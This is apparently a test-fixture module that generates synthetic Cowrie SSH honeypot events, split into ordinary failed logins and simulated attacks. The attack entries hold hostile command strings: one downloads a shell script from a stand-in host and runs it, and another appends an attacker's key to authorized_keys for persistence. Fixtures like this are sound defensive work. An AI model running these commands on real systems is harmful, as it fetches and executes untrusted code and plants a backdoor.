/** Cowrie sessions: nobody has a reason to be here, so the ordinary traffic is knocking at the door. */
const record = (time, pick, eventid, more = {}) => ({
  eventid,
  timestamp: time.toISOString(),
  src_ip: `198.51.100.${pick.number(1, 250)}`,
  session: pick.number(16 ** 8, 16 ** 9).toString(16),
  sensor: pick(['pot-01', 'pot-02']),
  protocol: 'ssh',
  ...more,
});

export const ordinary = [
  (time, pick) => record(time, pick, 'cowrie.session.connect', { src_port: pick.number(20000, 60000), dst_port: 2222 }),
  (time, pick) => record(time, pick, 'cowrie.login.failed', { username: pick(['root', 'admin', 'pi']), password: pick(['1234', 'admin', 'raspberry']) }),
];

export const attacks = [
  (time, pick) => record(time, pick, 'cowrie.login.success', { username: 'root', password: '123456' }),
  (time, pick) => record(time, pick, 'cowrie.command.input', { input: 'cd /tmp; wget http://203.0.113.8/b.sh; chmod 777 b.sh; sh b.sh' }),
  (time, pick) => record(time, pick, 'cowrie.command.input', { input: 'echo "ssh-rsa AAAAB3 mdrfckr">>.ssh/authorized_keys' }),
  (time, pick) => record(time, pick, 'cowrie.session.file_download', { url: 'http://203.0.113.8/bins/x86', shasum: 'ab'.repeat(32) }),
];
